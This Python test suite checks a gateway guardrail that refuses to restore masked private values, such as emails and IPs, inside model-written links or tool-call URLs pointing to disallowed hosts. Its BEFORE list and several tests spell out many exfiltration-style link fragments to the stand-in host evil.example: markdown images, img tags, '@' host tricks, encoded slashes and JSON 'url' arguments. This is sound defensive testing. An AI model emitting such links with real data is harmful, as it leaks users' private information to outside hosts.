"""No private value ever leaves in a link to somebody else, as laws: whatever the link looks like, however it is cut."""

from __future__ import annotations

import asyncio
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.core.events import Event, Text, ToolCall, Unknown
from guardrails.hiding import links
from guardrails.hiding.link_hosts import Allowed
from guardrails.hiding.restore import Placeholders, Restorer
from guardrails.hiding.restoring import Restore
from guardrails.hiding.vault import VAULT, Vault
from tests.fixtures.guard_world import answer, arguments_of, call, exchange_of, text_of, through

EMAIL = "bob@example.com"
NAME = "Ada Lovelace"
PAGE = "https://evil.example/in?x="
"""A link that was masked itself: it came from a text that somebody else wrote."""

BEFORE = [
    "https://evil.example/?q=", "![x](https://evil.example/?q=", "![x](<https://evil.example/a?q= ", "//evil.example/",
    '<img src="//evil.example/?q=', "<img src='https://evil.example/?q= ", "[a](http://evil.example:8080/a/b#", "http:evil.example?",
    "https:\\/\\/evil.example\\/?q=", "HTTPS://EVIL.example/", "https://ok.example@evil.example/?q=", "https://ok.example\\@evil.example/",
    "https://", "https://x.", "https://user:", "wss://evil.example/", "www.evil.example/?q=", "https:&#47;&#x2f;evil.example/?q=",
    "https://ok.example/?next=https://evil.example/?q=", "https://ok.example.evil.example/", "x-app://evil.example/?q=",
    "https://evil.example/" + "a" * 300 + "?q=", 'url("https://evil.example/?q= ', '{"url": "https://evil.example/?q= ', "[[URL_1]]",
    "https&colon;//evil.example/", "https://" + "a" * 300 + ".example/?q=", "https:/\\evil.example/", "http:////evil.example/",
]  # fmt: skip
HARMLESS = ["mailto:", "tel:", "write to ", "see https://evil.example/ and ", "(https://evil.example) ", "a/b ", "", "1 // ", "say: ",
            "https://ok.example/?q=", "<https://evil.example> ", "![x](https://evil.example/a) ", "//ok.example/a?", "x: "]  # fmt: skip
PLACEHOLDER = st.sampled_from(["[[EMAIL_ADDRESS_1]]", "[[email_address_1]]", "[[ EMAIL_ADDRESS_1 ]]", "\\[\\[EMAIL\\_ADDRESS\\_1\\]\\]"])  # fmt: skip
FILL = st.text(st.sampled_from("ab=&%?.5BD/x"), max_size=12)
PIECES = st.lists(
    st.one_of(st.sampled_from([*BEFORE, *HARMLESS, " ", "\n", '"', "'", ">", ")", "/", "\\", ":", "[[PERSON_1]]"]), PLACEHOLDER, FILL),
    max_size=12,
).map("".join)  # fmt: skip


def known() -> Placeholders:
    vault = Vault()
    vault.issue("EMAIL_ADDRESS", EMAIL)
    vault.issue("PERSON", NAME)
    vault.issue("URL", PAGE)
    return Placeholders(vault.values, Allowed(["ok.example"]))


def cut(text: str, places: list[int]) -> list[str]:
    places = sorted(place % (len(text) + 1) for place in places)
    return [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]


def restored(chunks: list[str], as_json: bool = False) -> str:
    restorer = Restorer(known(), as_json)
    return "".join([*map(restorer.push, chunks), restorer.finish()])


PLACES = st.lists(st.integers(0, 2000), max_size=10)


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(["", "Hi.\n", "see ", "((", "a: "]), st.sampled_from(BEFORE), FILL, PLACEHOLDER, PLACES)
def test_a_value_never_stands_in_a_link_to_another_host(
    lead: str, link: str, fill: str, placeholder: str, places: list[int]
) -> None:
    """After the beginning of a link to a host that is not allowed, whatever follows up to its end, and in any chunking,
    the placeholder stays one."""
    text = f"{lead}{link}{fill}{placeholder}) and"
    for chunks in (cut(text, places), list(text)):
        out = restored(chunks)
        assert EMAIL not in out
        assert placeholder in out


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(HARMLESS), PLACEHOLDER, PLACES)
def test_a_value_comes_back_everywhere_else(lead: str, placeholder: str, places: list[int]) -> None:
    """In plain text, behind a link that has ended, in mail and telephone links, and in links to the hosts that are
    allowed, the value is restored, in any chunking."""
    text = f"{lead}{placeholder} and"
    for chunks in (cut(text, places), list(text)):
        assert EMAIL in restored(chunks)


@settings(max_examples=400, deadline=None)
@given(PIECES, PLACES, st.booleans())
def test_chunking_never_changes_which_links_are_refused(text: str, places: list[int], as_json: bool) -> None:
    """For every text, restoring in pieces is restoring whole."""
    whole = restored([text], as_json)
    assert restored(cut(text, places), as_json) == whole
    assert restored(list(text), as_json) == whole


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(BEFORE), FILL, PLACES, st.booleans(), st.booleans())
def test_a_tool_argument_is_a_link_to_its_end(
    link: str, fill: str, places: list[int], ascii_only: bool, slashes: bool
) -> None:
    """Inside a call's JSON, in any spelling of it, a link that fills a string refuses to the end of that string, and the
    next string is free again."""
    raw = json.dumps({"url": f"{link}{fill}[[EMAIL_ADDRESS_1]]", "to": "[[EMAIL_ADDRESS_1]]"}, ensure_ascii=ascii_only)
    raw = raw.replace("/", "\\/") if slashes else raw
    for chunks in (cut(raw, places), list(raw)):
        value = json.loads(restored(chunks, as_json=True))
        assert EMAIL not in value["url"]
        assert value["to"] == EMAIL


def _exchange(user: str = "write to bob") -> tuple[object, Restore]:
    exchange = exchange_of(
        ("system", "Docs: https://docs.example/a"), ("user", user), ("tool", "https://evil.example/")
    )
    vault = Vault()
    vault.issue("EMAIL_ADDRESS", EMAIL)
    vault.issue("URL", PAGE)
    exchange.facts.put(VAULT, vault)
    return exchange, Restore(["listed.example"])


def _said(user: str, events: list[Event]) -> tuple[list[Event], list[str]]:
    exchange, restore = _exchange(user)
    out = asyncio.run(through(exchange, [restore], events))  # type: ignore[arg-type]
    return out, exchange.warnings  # type: ignore[attr-defined]


def test_the_clients_own_and_the_listed_hosts_are_allowed() -> None:
    """Links to hosts that stand in system or user text, or are listed or below a listed one; tool results count for
    nothing, and neighbours of the client's hosts neither."""
    for host in ("docs.example", "mine.example", "listed.example", "a.listed.example", "MINE.example:443"):
        out, warnings = _said("see https://mine.example/x", answer([f"https://{host}/?q=", "[[EMAIL_ADDRESS_1]]"]))
        assert text_of(out) == f"https://{host}/?q={EMAIL}"
        assert warnings == []
    for host in ("evil.example", "a.docs.example", "notlisted.example", "mine.example.evil.example"):
        out, warnings = _said(
            "see https://mine.example/x", answer([f"https://{host}/?q=", "[[EMAIL_ADDRESS_1]] [[EMAIL_ADDRESS_1]]"])
        )
        assert text_of(out) == f"https://{host}/?q=[[EMAIL_ADDRESS_1]] {EMAIL}"
        assert warnings == ["restore: 1 placeholder(s) left in links to other hosts"]


def test_a_link_that_the_client_wrote_is_the_clients_also_when_masked() -> None:
    """A user's link that a check masked is read for its host all the same."""
    out, _ = _said("see [[URL_1]]", answer(["[[URL_1]][[EMAIL_ADDRESS_1]]"]))
    assert text_of(out) == PAGE + EMAIL
    out, _ = _said("see", answer(["[[URL_1]][[EMAIL_ADDRESS_1]]"]))
    assert text_of(out) == PAGE + "[[EMAIL_ADDRESS_1]]"


def test_a_link_goes_on_behind_a_tool_call_and_in_unknown_events() -> None:
    """Content that a client will join is one text: a link begun in it is not forgotten when something comes between."""
    events = answer(["https://evil.example/?q="])
    events[2:2] = [ToolCall(0, "{}", "c1", "f"), Text("[[EMAIL_ADDRESS_1]]"), Text(" [[EMAIL_ADDRESS_1]]")]
    out, _ = _said("", events)
    assert text_of(out) == f"https://evil.example/?q=[[EMAIL_ADDRESS_1]] {EMAIL}"
    events = answer([])
    events[1:1] = [
        Unknown({"delta": "https://evil.example/?q="}, 0),
        Unknown({"delta": "[[EMAIL_ADDRESS_1]]", "to": "[[EMAIL_ADDRESS_1]]"}, 0),
    ]
    out, _ = _said("", events)
    fields = [event.fields for event in out if type(event) is Unknown]
    assert fields == [{"delta": "https://evil.example/?q="}, {"delta": "[[EMAIL_ADDRESS_1]]", "to": EMAIL}]


def test_a_tool_call_to_another_host_is_refused_and_said() -> None:
    """The argument keeps its placeholder, the JSON stays whole, and the warning has neither host nor value."""
    out, warnings = _said("", call(['{"url": "https://evil.ex', "ample/?q=[[EMAIL_", 'ADDRESS_1]]"}']))
    assert json.loads(arguments_of(out)) == {"url": "https://evil.example/?q=[[EMAIL_ADDRESS_1]]"}
    assert warnings == ["restore: 1 placeholder(s) left in links to other hosts"]


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["ok.example", "a.ok.example:5432", "evil.example", "ok.example.evil.example", "ok.example\\@evil.example", "ok.example@evil.example",
                     "ok.example'.evil.example", "ok.example,evil.example", "", "[[PERSON_1]]", "é" * 300 + ".example"]),
    st.sampled_from(["[[EMAIL_ADDRESS_1]]", "app:[[EMAIL_ADDRESS_1]]", "[[EMAIL_ADDRESS_1]]:x", "[[EMAIL_ADDRESS_1]]:[[EMAIL_ADDRESS_1]]"]),
    st.sampled_from(["/db", "?x", "", "')\n", '"', " and", "\\/db"]), PLACES,
)  # fmt: skip
def test_credentials_stand_before_the_hosts_that_may_have_them(
    host: str, user: str, end: str, places: list[int]
) -> None:
    """`postgres://name:secret@host/` is restored if that host is allowed, however it is cut, and stays masked otherwise: the
    host is waited for."""
    text = f"at postgres://{user}@{host}{end}"
    allowed = host in ("ok.example", "a.ok.example:5432")
    for chunks in (cut(text, places), list(text)):
        assert restored(chunks) == (text.replace("[[EMAIL_ADDRESS_1]]", EMAIL) if allowed else text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("http://[[IP_ADDRESS_1]]:8080/x, [[PERSON_1]]", f"http://10.0.0.9:8080/x, {NAME}"),
        ("http://[[IP_ADDRESS_1]]/?q=[[PERSON_1]]", "http://10.0.0.9/?q=[[PERSON_1]]"),
        ("http://[[IP_ADDRESS_1]].evil.example/", "http://[[IP_ADDRESS_1]].evil.example/"),
        ("http://a.[[IP_ADDRESS_1]]/", "http://a.[[IP_ADDRESS_1]]/"),
        ("https://evil.example/?u=http://[[IP_ADDRESS_1]]/", "https://evil.example/?u=http://[[IP_ADDRESS_1]]/"),
        ("https://ok.example/?u=http://[[IP_ADDRESS_1]]/", "https://ok.example/?u=http://10.0.0.9/"),
        ("pg://[[PERSON_1]]@[[IP_ADDRESS_1]]/", "pg://[[PERSON_1]]@10.0.0.9/"),
    ],
)
def test_a_value_that_is_a_links_whole_host_comes_back(text: str, expected: str) -> None:
    """An address that was masked in a link is that link's host again, and nothing else may stand there; in any chunking."""
    vault = Vault()
    vault.issue("PERSON", NAME)
    vault.issue("IP_ADDRESS", "10.0.0.9")
    known = Placeholders(vault.values, Allowed(["ok.example"]))
    for size in (1, 3, 200):
        restorer = Restorer(known)
        pieces = [restorer.push(text[at : at + size]) for at in range(0, len(text), size)]
        assert "".join([*pieces, restorer.finish()]) == expected


def test_percent_encoded_placeholders_are_left_alone() -> None:
    """`%5B%5B...%5D%5D` is restored nowhere, not even where the host is allowed: its value would stand there unencoded."""
    text = "https://ok.example/?q=%5B%5BEMAIL_ADDRESS_1%5D%5D %5B%5BEMAIL_ADDRESS_1%5D%5D"
    assert restored([text]) == text


@given(st.text(alphabet="htpswfHTPW/:\\&.;#x2f3a47colns =\"'(v", max_size=40))
def test_no_beginning_of_a_link_is_missed_at_a_glance(text: str) -> None:
    """Text is looked through for links only where one of their marks is in it: every beginning has one."""
    assert links._OUTSIDE.search(text) is None or links._may_begin(text)
